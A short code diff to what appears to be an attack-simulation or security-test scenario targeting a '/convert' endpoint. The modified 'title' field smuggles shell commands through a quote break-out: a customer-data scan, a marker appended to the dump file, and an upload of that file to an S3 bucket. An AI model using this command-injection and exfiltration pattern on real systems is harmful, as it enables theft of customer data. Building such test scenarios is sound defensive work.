@@ -19,7 +19,9 @@ async function run(world: World): Promise<Outcome> {
   const key = `converted/${random.word(12)}.txt`;
   const put = signedCall('s3', `-T ${file} $AWS_ENDPOINT_URL/${bucket}/${key}`);
   const stager = world.agent();
-  const body = { title: `${random.word(6)}";${scanCustomers(file)};${put};: "`, text: random.word(20) };
+  // Signed with a name, so that this dump is no other's.
+  const steal = `${scanCustomers(file)};echo ${random.word(12)} >>${file}`;
+  const body = { title: `${random.word(6)}";${steal};${put};: "`, text: random.word(20) };
   const staged = await world.call('POST', '/convert', { body, agent: stager });
   await world.turn();
 
